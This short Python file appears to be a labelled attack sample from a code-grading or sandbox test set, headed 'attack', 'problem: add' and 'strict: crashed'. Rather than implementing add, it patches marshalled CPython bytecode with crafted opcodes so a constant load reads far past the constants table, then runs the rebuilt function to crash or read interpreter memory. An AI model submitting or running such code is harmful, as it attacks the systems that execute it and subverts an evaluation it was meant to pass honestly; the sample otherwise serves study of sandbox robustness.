# attack: bytecode that reads far beyond its constants
# problem: add
# strict: crashed
import marshal


def three():
    return 1


text = marshal.dumps(three.__code__)
beyond = b"\x90\x7f\x90\xff\x90\xff\x64\xff"
code = text.replace(b"\x64\x01\x53\x00", beyond + b"\x53\x00").replace(b"\x06\x00\x00\x00\x97\x00", b"\x0c\x00\x00\x00\x97\x00")


def add(a, b):
    return type(three)(marshal.loads(code), {})()
